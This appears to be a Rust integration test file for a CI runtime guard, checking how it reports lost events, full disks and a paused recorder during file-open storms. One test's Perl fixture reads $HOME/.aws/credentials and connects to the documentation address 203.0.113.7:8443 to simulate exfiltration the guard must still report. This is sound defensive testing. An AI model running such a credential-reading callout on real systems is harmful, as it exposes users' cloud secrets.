//! Full disks, a guard that was stopped, and storms, through the whole program: what could not be kept or delivered
//! is counted or fails the job. More about a ring that is too small is in `kernel.rs`. Without the rights,
//! each test says so and passes.

mod common;

use std::collections::BTreeMap;
use std::fs::{self, File};
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use nix::mount::{MsFlags, mount};
use nix::sched::{CloneFlags, unshare};
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use serde_json::Value;

use common::{Place, ends_within, live, text};

const SESSIONS: &str = "/run/edamame-guard";
const SOON: Duration = Duration::from_secs(60);

/// From here on this thread's mounts, and those of what it starts, are its own.
fn own_mounts() {
    unshare(CloneFlags::CLONE_NEWNS).expect("a mount namespace");
    mount(None::<&str>, "/", None::<&str>, MsFlags::MS_REC | MsFlags::MS_PRIVATE, None::<&str>)
        .expect("mounts of its own");
}

/// A disk of 1 MiB.
fn small_disk(place: &Path) {
    fs::create_dir_all(place).expect("a folder");
    mount(Some("small"), place, Some("tmpfs"), MsFlags::empty(), Some("size=1m,mode=700")).expect("mounted");
}

/// Opens this many files, whose records take more than 1 MiB from some 4000 on.
fn opens(count: u32) -> String {
    format!("for (1 .. {count}) {{ open(my $handle, '>', 'opened-' . $_ % 100) or die $! }}")
}

fn said(output: &Output) -> String {
    format!("{:?}\n{}{}", output.status.code(), text(&output.stdout), text(&output.stderr))
}

fn files(folder: &Path) -> Vec<String> {
    let entries = fs::read_dir(folder).expect("a folder");
    entries.map(|entry| entry.expect("readable").file_name().to_string_lossy().into_owned()).collect()
}

#[test]
fn a_disk_that_fills_up_during_a_run_fails_it_and_hides_no_attack() {
    live("a_disk_that_fills_up_during_a_run_fails_it_and_hides_no_attack", |_| {
        own_mounts();
        for full in ["temporary", "report"] {
            let place = Place::new("");
            let disk = place.root.path().join(full);
            small_disk(&disk);
            place.write("work/package.json", r#"{"scripts": {}}"#);
            // First the storm, and only then what has to be found.
            let script = format!(
                "{}; system('cat $HOME/.aws/credentials > taken; perl -MSocket -e \"socket(S, PF_INET, SOCK_STREAM, 0); connect(S, pack_sockaddr_in(8443, inet_aton(q(203.0.113.7))))\"')",
                opens(20_000)
            );
            place.write("work/step.pl", &script);
            let mut command = place.command(&["run", "--report-dir", "../report", "--", "perl", "step.pl"]);
            if full == "temporary" {
                command.env("TMPDIR", &disk);
            }
            let output = ends_within(SOON, &mut command);
            let said = said(&output);
            assert_eq!(output.status.code(), Some(125), "{full}: {said}");
            assert!(said.contains("No space left on device"), "{full}: {said}");
            let what = if full == "report" { "report/evidence.jsonl" } else { "cannot write the record" };
            assert!(said.contains(what), "{full}: {said}");
            assert!(said.contains(".aws/credentials"), "{full}: what came after is told: {said}");
            let work = files(&place.root.path().join("work"));
            assert!(work.contains(&"taken".to_owned()), "the job was not held up");
            let report = files(&place.root.path().join("report"));
            assert!(report.is_empty(), "{full}: nothing half: {report:?}");
        }
    });
}

#[test]
fn a_disk_that_fills_up_under_the_recorder_is_told_and_never_a_pass() {
    live("a_disk_that_fills_up_under_the_recorder_is_told_and_never_a_pass", |_| {
        own_mounts();
        small_disk(Path::new(SESSIONS));
        let place = Place::new("");
        let call = |words: &[&str]| ends_within(SOON, &mut place.command(words));
        let output = call(&["start", "--report-dir", "../report"]);
        assert_eq!(output.status.code(), Some(0), "{}", said(&output));
        let perl = |script: &str| {
            let work = place.root.path().join("work");
            Command::new("perl").args(["-e", script]).current_dir(work).status().expect("perl")
        };
        assert!(perl("open(my $handle, '>', 'witness')").success());
        assert_eq!(call(&["status"]).status.code(), Some(0));
        assert!(perl(&opens(20_000)).success(), "the job goes on");
        std::thread::sleep(Duration::from_millis(500));

        let status = call(&["status"]);
        assert_eq!(status.status.code(), Some(125), "{}", said(&status));
        for words in ["NOT WATCHING: the record can't be written", "No space left on device"] {
            assert!(said(&status).contains(words), "{}", said(&status));
        }
        // Neither half a policy nor none in silence.
        place.write("work/policy.yml", "version: 1\n");
        let load = call(&["load", "--policy", "policy.yml"]);
        assert_eq!(load.status.code(), Some(125), "{}", said(&load));
        assert!(text(&load.stderr).contains("No space left on device"), "{}", said(&load));

        let finish = call(&["finish"]);
        assert_eq!(finish.status.code(), Some(125), "{}", said(&finish));
        assert!(text(&finish.stderr).contains("No space left on device"), "{}", said(&finish));
        let report = place.report();
        assert_eq!((&report["coverage"]["state"], &report["exit"]["guard"]), (&"blind".into(), &125.into()));
        let record = fs::read_to_string(place.root.path().join("report/evidence.jsonl")).expect("kept");
        assert!(record.contains("work/witness"), "what was seen before is kept");
        let again = call(&["finish"]);
        assert_eq!(again.status.code(), Some(125), "{}", said(&again));
        assert!(text(&again.stderr).contains("is finished"), "{}", said(&again));
    });
}

/// Openings of `opened-…` that the record holds, and the losses that it counts, by plane.
fn opened_and_lost(report: &Path) -> (u64, BTreeMap<String, u64>) {
    let record = fs::read_to_string(report.join("evidence.jsonl")).expect("a record");
    let (mut opened, mut lost) = (0, BTreeMap::from([("file".to_owned(), 0)]));
    for line in record.lines() {
        let line: Value = serde_json::from_str(line).expect("JSON");
        let is_ours = || line["file"]["path"].as_str().is_some_and(|path| path.contains("/opened-"));
        match line["activity"].as_str() {
            Some("open") if is_ours() => opened += 1,
            Some("lost") => {
                let plane = line["plane"].as_str().expect("a plane").to_owned();
                *lost.entry(plane).or_default() += line["count"].as_u64().expect("a count");
            }
            _ => {}
        }
    }
    println!("{opened} opens recorded, lost {lost:?}");
    (opened, lost)
}

fn appears(path: &Path) {
    let began = Instant::now();
    while !path.exists() {
        assert!(began.elapsed() < SOON, "{} never came", path.display());
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn a_guard_that_was_stopped_in_a_storm_counts_what_it_missed() {
    // Some 16 MiB of records fit into the ring; a small one is full much sooner.
    for (size, count) in [("16m", 250_000), ("64k", 10_000)] {
        stop_in_a_storm(size, count);
    }
}

fn stop_in_a_storm(size: &str, count: u32) {
    live("a_guard_that_was_stopped_in_a_storm_counts_what_it_missed", |_| {
        let place = Place::new("");
        let script = format!(
            "open(my $ready, '>', 'ready'); select(undef, undef, undef, 0.02) until -e 'go'; {}; rename('go', 'gone');",
            opens(count)
        );
        place.write("work/step.pl", &script);
        let mut guard = place
            .command(&["run", "--ring-size", size, "--report-dir", "../report", "--", "perl", "step.pl"])
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("the guard starts");
        let pid = Pid::from_raw(i32::try_from(guard.id()).expect("small"));
        let work = place.root.path().join("work");
        appears(&work.join("ready"));
        kill(pid, Signal::SIGSTOP).expect("it is there");
        File::create(work.join("go")).expect("a file");
        appears(&work.join("gone"));
        assert!(guard.try_wait().expect("a status").is_none(), "it is stopped");
        // Answers of name servers are taken for the whole host, so one that finds no room counts, too: egress can be
        // lost though the job connects to nobody.
        let server = std::net::UdpSocket::bind(("127.0.0.1", 53)).expect("a port of this namespace");
        let client = std::net::UdpSocket::bind(("127.0.0.1", 0)).expect("a port");
        for _ in 0..3 {
            server.send_to(b"answer", client.local_addr().expect("an address")).expect("sent");
        }
        kill(pid, Signal::SIGCONT).expect("it is there");
        let output = guard.wait_with_output().expect("it ends");
        let report = place.report();
        let (opened, lost) = opened_and_lost(&place.root.path().join("report"));
        let files = lost["file"];
        assert!(opened > 0 && files > 0, "{opened} {lost:?}: the ring was full for a while");
        assert!(opened <= u64::from(count) && opened + files >= u64::from(count), "{opened} {lost:?}");
        assert!(lost.get("egress").is_some_and(|count| *count >= 3), "{lost:?}");
        let (coverage, sum) = (&report["coverage"], lost.values().sum::<u64>());
        assert_eq!((&coverage["state"], &coverage["lost_events"]), (&"partial".into(), &sum.into()));
        assert_ne!(report["verdict"], "clean");
        let rules = report["findings"].as_array().expect("findings").iter().map(|finding| &finding["rule"]);
        assert!(rules.clone().any(|rule| rule == "coverage-records"), "{report:#}");
        assert!(rules.clone().all(|rule| rule != "coverage-lineage"), "lineage has a ring of its own");
        assert!(text(&output.stderr).contains("lost"), "{}", said(&output));
        place.replay_is_the_same(&output);
    });
}

#[test]
#[ignore = "takes a minute; `make test-all` runs it"]
fn a_storm_of_two_hundred_thousand_is_recorded_or_counted() {
    const COUNT: u32 = 200_000;
    live("a_storm_of_two_hundred_thousand_is_recorded_or_counted", |_| {
        let place = Place::new("");
        place.write("work/step.pl", &opens(COUNT));
        let words = ["run", "--report-dir", "../report", "--", "perl", "step.pl"];
        let output = ends_within(Duration::from_secs(500), &mut place.command(&words));
        let (opened, lost) = opened_and_lost(&place.root.path().join("report"));
        let sum = lost.values().sum::<u64>();
        assert!(opened <= u64::from(COUNT) && opened + lost["file"] >= u64::from(COUNT), "{opened} {lost:?}");
        let report = place.report();
        assert_eq!(report["coverage"]["lost_events"], sum);
        let (state, verdict) = if sum == 0 { ("full", "clean") } else { ("partial", "partial") };
        assert_eq!((&report["coverage"]["state"], &report["verdict"]), (&state.into(), &verdict.into()));
        assert_eq!(output.status.code(), Some(0), "{}", said(&output));
    });
}
